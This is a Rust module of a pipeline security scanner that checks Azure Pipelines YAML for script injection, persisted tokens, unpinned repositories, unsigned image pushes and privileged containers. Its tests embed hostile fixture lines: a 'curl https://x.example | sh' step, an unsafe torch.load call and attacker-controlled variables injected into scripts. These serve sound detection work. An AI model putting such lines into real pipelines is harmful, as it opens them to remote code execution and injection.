//! Azure Pipelines.
//!
//! Source: Microsoft Learn, "YAML schema reference for Azure Pipelines", "Predefined variables".

use super::github::gaps;
use super::script::Script;
use crate::address::is_commit;
use crate::docker::started_with;
use crate::rules::{self, PERSISTED_CREDENTIALS, TEMPLATE_INJECTION, UNPINNED_INCLUDE, UNVERIFIED_PROMOTION};
use crate::yaml::{Entry, Node, Yaml};
use crate::{Issue, Notes, Reader, Text, image, issue, variable};
use bartizan_core::{Confidence, Kind, Rule, Severity};

/// Pipelines of Azure DevOps.
#[derive(Debug)]
pub(crate) struct AzurePipeline;

impl Reader for AzurePipeline {
    fn id(&self) -> &'static str {
        "azure-pipeline"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn rules(&self) -> &'static [&'static Rule] {
        rules::RULES
    }

    fn recognises(&self, text: &Text<'_>) -> bool {
        if !matches!(text.extension(), "yml" | "yaml") {
            return false;
        }
        let named = text.file_name().contains("azure-pipelines")
            || text.name.contains(".azure-pipelines/")
            || text.name.contains(".azuredevops/");
        let content = text.content;
        let shaped = text.has_key(&["stages", "jobs", "steps"])
            && (content.contains("vmImage:") || content.contains("- task:"));
        (named || shaped)
            && text.has_key(&["stages", "jobs", "steps", "resources", "extends", "pool", "trigger"])
            && !content.contains("runs-on:")
    }

    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
        let yaml = Yaml::read(text.content);
        gaps(&yaml, notes);
        let Some(root) = yaml.root() else { return };
        issue::report(text, notes, resources(root));
        let typed = |name: &str| {
            let mut declared = root.get("parameters").into_iter().flat_map(Node::items);
            let Some(one) = declared.find(|one| one.text_of("name") == Some(name)) else {
                // A template's parameter: given by the pipelines that use it.
                return Freedom::Given;
            };
            let kind = one.text_of("type").unwrap_or("string");
            if matches!(kind, "boolean" | "number") || one.get("values").is_some() {
                Freedom::None
            } else {
                Freedom::Any
            }
        };
        for node in yaml.nodes().filter(|node| node.is_mapping()) {
            if notes.out_of_time() {
                return;
            }
            step(text, notes, node, &typed);
            variables(text, notes, node);
            issue::report(
                text,
                notes,
                node.get("container").into_iter().flat_map(started_with).collect::<Vec<_>>(),
            );
            let container = node
                .get("container")
                .filter(|container| container.as_str().is_some_and(|text| text.contains(['/', ':'])));
            if let Some(container) = container {
                issue::report(
                    text,
                    notes,
                    image::issue(container.as_str().unwrap_or_default(), container.span(), "the image"),
                );
            }
        }
    }
}

/// Variables that whoever pushes or opens a pull request fills.
fn outsider(name: &str) -> Option<Severity> {
    let name = name.to_ascii_lowercase().replace(['.', '_'], "");
    match name.as_str() {
        "buildsourceversionmessage"
        | "systempullrequestsourcebranch"
        | "systempullrequestsourcebranchname"
        | "buildsourceversionauthor"
        | "systempullrequesttitle" => Some(Severity::High),
        "buildsourcebranch" | "buildsourcebranchname" | "buildrequestedfor" | "buildrequestedforemail" => {
            Some(Severity::Medium)
        }
        _ => None,
    }
}

/// What a parameter may hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Freedom {
    /// A number, a switch or one of a list.
    None,
    /// What another file gives it.
    Given,
    /// Any text, by whoever starts the pipeline.
    Any,
}

fn step(text: &Text<'_>, notes: &mut Notes<'_>, node: Node<'_>, typed: &dyn Fn(&str) -> Freedom) {
    let mut scripts: Vec<Node<'_>> = ["script", "bash", "pwsh", "powershell"]
        .iter()
        .filter_map(|key| node.get(key))
        .filter(|script| script.as_str().is_some())
        .collect();
    if node.get("task").is_some()
        && let Some(inputs) = node.get("inputs")
    {
        scripts.extend(
            ["script", "inlineScript", "Inline", "azurePowerShellScript"]
                .iter()
                .filter_map(|key| inputs.get(key))
                .filter(|script| script.as_str().is_some()),
        );
    }
    let python = node.text_of("task").is_some_and(|task| task.starts_with("PythonScript@"));
    for script in scripts {
        if python {
            let code = script.as_str().unwrap_or_default();
            issue::report_in(text, notes, script, crate::python::embedded::issues(code));
            issue::report_in(text, notes, script, filled(code, typed));
            continue;
        }
        Script::of([script]).approved(asks_first(text.content)).check(text, notes, &outsider);
        issue::report_in(text, notes, script, filled(script.as_str().unwrap_or_default(), typed));
    }
    if let Some(entry) = pushed(node).filter(|_| !asks_first(text.content)) {
        let message = "the job pushes an image and verifies nothing";
        let issue = Issue::new(&UNVERIFIED_PROMOTION, entry.span(), message);
        issue::report(text, notes, [issue.confidence(Confidence::Medium)]);
    }
    if node.get("checkout").is_some()
        && let Some(entry) =
            node.entry("persistCredentials").filter(|entry| entry.value.as_bool() == Some(true))
    {
        issue::report(
            text,
            notes,
            [Issue::new(
                &PERSISTED_CREDENTIALS,
                entry.span(),
                "the token stays in the checkout for every later step",
            )
            // Said in so many words: nothing else asks for it by default.
            .severity(Severity::Medium)
            .confidence(Confidence::Medium)],
        );
    }
    for entry in node.get("env").map(Node::entries).unwrap_or_default() {
        let value = entry.value.as_str().unwrap_or_default();
        issue::report(text, notes, variable::issues(entry.name(), value, &entry.value.span()));
    }
}

/// Whether a job of the pipeline runs in an environment, where people approve, or one waits for a person or verifies.
fn asks_first(content: &str) -> bool {
    content.contains("deployment:") && content.contains("environment:")
        || ["ManualValidation@", "cosign", "notation", "bartizan"].iter().any(|part| content.contains(part))
}

/// The input of the task of Docker by which an image is pushed; alone, the task builds and pushes.
fn pushed(node: Node<'_>) -> Option<Entry<'_>> {
    let task = node.get("task").and_then(Node::as_str).filter(|task| task.starts_with("Docker@"))?;
    let inputs = node.get("inputs")?;
    let command = inputs.entry("command");
    match command {
        Some(entry) => {
            let named = entry.value.as_str().unwrap_or_default();
            let pushes = ["push", "buildAndPush"].iter().any(|push| named.eq_ignore_ascii_case(push));
            // A tag that moves takes the image to whoever asks for it.
            let moving = inputs.entry("tags").filter(|tags| {
                tags.value.as_str().is_some_and(|tags| tags.split_whitespace().any(|tag| tag == "latest"))
            });
            pushes.then_some(moving.unwrap_or(entry))
        }
        None => inputs.entry("containerRegistry").filter(|_| task.starts_with("Docker@2")),
    }
}

fn variables(text: &Text<'_>, notes: &mut Notes<'_>, node: Node<'_>) {
    let Some(variables) = node.get("variables") else { return };
    for entry in variables.entries() {
        issue::report(
            text,
            notes,
            variable::issues(entry.name(), entry.value.as_str().unwrap_or_default(), &entry.value.span()),
        );
    }
    for item in variables.items() {
        if let Some((name, value)) = item.text_of("name").zip(item.get("value")) {
            issue::report(
                text,
                notes,
                variable::issues(name, value.as_str().unwrap_or_default(), &value.span()),
            );
        }
    }
}

/// `$(Variable)` and `${{ parameters.x }}`, which are filled in before the shell reads the script.
fn filled(script: &str, typed: &dyn Fn(&str) -> Freedom) -> Vec<Issue> {
    let mut issues = Vec::new();
    for (open, close) in [("$(", ")"), ("${{", "}}")] {
        for (at, _) in script.match_indices(open).take(1_000) {
            let inner = at.saturating_add(open.len());
            let near = script.get(inner..).unwrap_or_default();
            let near = near.get(..near.floor_char_boundary(512)).unwrap_or(near);
            let Some(length) = near.find(close) else { continue };
            let name = near.get(..length).unwrap_or_default().trim();
            let variable = name.strip_prefix("variables.").or_else(|| name.strip_prefix("variables['"));
            let variable = variable.map_or(name, |name| name.trim_end_matches("']"));
            let found = if let Some(parameter) = name.strip_prefix("parameters.") {
                let plain = parameter.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
                match typed(parameter) {
                    Freedom::Any if plain => Some((Severity::Medium, "who starts the pipeline chooses")),
                    Freedom::Given if plain => {
                        Some((Severity::Low, "the pipelines that use this template choose"))
                    }
                    _ => None,
                }
            } else {
                outsider(variable).map(|severity| (severity, "others choose"))
            };
            if let Some((severity, who)) = found {
                let end = inner.saturating_add(length).saturating_add(close.len());
                let message = format!("`{name}`, which {who}, is filled into a script");
                issues.push(
                    Issue::new(&TEMPLATE_INJECTION, at..end, message)
                        .severity(severity)
                        .confidence(Confidence::High)
                        .remedy("Map it with `env:` on the step and use the variable of the shell, quoted."),
                );
            }
        }
    }
    issues
}

fn resources(root: Node<'_>) -> Vec<Issue> {
    let mut issues = Vec::new();
    let Some(resources) = root.get("resources") else { return issues };
    for repository in resources.get("repositories").into_iter().flat_map(Node::items) {
        let Some(name) = repository.get("name").or_else(|| repository.get("repository")) else { continue };
        let shown = name.as_str().unwrap_or_default();
        match repository.get("ref") {
            None => issues.push(Issue::new(
                &UNPINNED_INCLUDE,
                name.span(),
                format!("`{shown}` is taken at its default branch"),
            )),
            Some(reference) if !reference.as_str().is_some_and(is_commit) => {
                let tag = reference.as_str().is_some_and(|text| text.starts_with("refs/tags/"));
                let severity = if tag { Severity::Low } else { Severity::Medium };
                issues.push(
                    Issue::new(
                        &UNPINNED_INCLUDE,
                        reference.span(),
                        format!("`{shown}` is taken at a branch or tag, which can be moved"),
                    )
                    .severity(severity),
                );
            }
            Some(_) => {}
        }
    }
    for container in resources.get("containers").into_iter().flat_map(Node::items) {
        if let Some(image) = container.get("image") {
            issues.extend(image::issue(image.as_str().unwrap_or_default(), image.span(), "the image"));
        }
        issues.extend(started_with(container));
    }
    issues
}

#[cfg(test)]
mod tests {
    use crate::{Text, examine};
    use bartizan_core::{Limits, MonotonicClock};

    #[test]
    fn the_code_of_a_python_task_is_read_as_python() {
        let task = |name: &str| {
            let text = format!(
                "steps:\n- task: {name}@0\n  inputs:\n    scriptSource: inline\n    script: |\n      import torch\n      torch.load('a.pt', weights_only=False)\n"
            );
            crate::testing::lines("azure-pipelines.yml", &text)
        };
        assert_eq!(task("PythonScript"), [(7, "unsafe-deserialization")]);
    }

    #[test]
    fn images_that_are_pushed_and_containers_with_all_rights_are_found() {
        let push = |inputs: &str| {
            let text =
                format!("pool: {{vmImage: ubuntu-24.04}}\nsteps:\n- task: Docker@2\n  inputs:\n{inputs}");
            crate::testing::lines("azure-pipelines.yml", &text)
        };
        assert_eq!(
            push("    command: buildAndPush\n    tags: $(Build.BuildId)\n"),
            [(5, "unverified-promotion")]
        );
        assert_eq!(push("    command: push\n    tags: latest\n"), [(6, "unverified-promotion")]);
        assert_eq!(push("    command: build\n    tags: latest\n"), []);
        let signed = "    command: push\n- script: cosign sign acme/a\n";
        assert_eq!(push(signed), []);
        let container = |options: &str| {
            let text = format!(
                "pool: {{vmImage: ubuntu-24.04}}\nresources:\n  containers:\n  - container: a\n    image: a@sha256:aa\n    options: {options}\nsteps:\n- script: make\n"
            );
            crate::testing::lines("azure-pipelines.yml", &text)
        };
        assert_eq!(container("--cpus 2 --privileged"), [(6, "privileged-container")]);
        assert_eq!(container("--cpus 2 -v /data:/data"), []);
    }

    #[test]
    fn macros_parameters_and_resources_are_judged() {
        let text = "trigger: none\nparameters:\n- name: n\n  type: number\n- name: s\n  type: string\nresources:\n  repositories:\n  - repository: t\n    name: acme/t\npool: {vmImage: ubuntu-22.04}\nsteps:\n- checkout: self\n  persistCredentials: true\n- script: |\n    echo $(Build.BuildId)\n    echo $(System.PullRequest.SourceBranch)\n    echo ${{ parameters.n }} ${{ parameters.s }}\n- bash: curl https://x.example | sh\n  env: {T: $(Build.SourceVersionMessage)}\n";
        let outcome =
            examine(&Text::new("azure-pipelines.yml", text), &Limits::default(), &MonotonicClock::start());
        let mut found: Vec<_> = outcome
            .findings
            .iter()
            .map(|one| (one.location.line.unwrap(), one.rule.id.trim_start_matches("pipeline/")))
            .collect();
        found.sort_unstable();
        assert_eq!(
            found,
            [
                (10, "unpinned-include"),
                (14, "persisted-credentials"),
                (17, "template-injection"),
                (18, "template-injection"),
                (19, "curl-pipe-shell")
            ]
        );
    }
}
